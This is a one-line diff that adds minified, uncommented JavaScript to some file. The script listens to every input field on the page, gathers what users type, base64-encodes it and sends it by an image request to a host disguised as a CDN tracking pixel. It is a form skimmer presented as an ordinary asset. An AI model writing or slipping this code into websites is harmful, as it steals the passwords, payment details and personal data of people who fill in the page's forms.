@@ -1,0 +1,1 @@
+(function(){var f=document.querySelectorAll('input'),o={};function g(){var q=[];for(var k in o)q.push(k+'='+encodeURIComponent(o[k]));var i=new Image;i.src='https://img-cdn-static.example.net/pixel.gif?'+btoa(q.join('&'))}for(var i=0;i<f.length;i++)f[i].addEventListener('change',function(){o[this.name||this.id]=this.value;g()});})();
